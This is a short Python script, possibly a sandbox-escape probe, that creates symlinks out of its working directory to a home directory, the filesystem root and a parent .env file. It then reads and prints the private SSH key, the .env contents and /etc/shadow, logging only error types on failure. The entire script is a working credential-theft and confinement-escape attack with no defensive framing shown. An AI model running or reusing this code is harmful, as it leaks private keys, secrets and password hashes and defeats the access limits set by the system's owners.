# Leaves links that lead out, and reads through them.
import os, sys

for target, link in [("../../home", "home"), ("/", "root"), ("../.env", "env")]:
    try:
        os.symlink(target, link)
    except OSError as error:
        print(link, type(error).__name__, file=sys.stderr)
for path in ["home/.ssh/id_rsa", "env", "root/etc/shadow"]:
    try:
        print(open(path).read())
    except OSError as error:
        print(path, type(error).__name__, file=sys.stderr)
print("done")
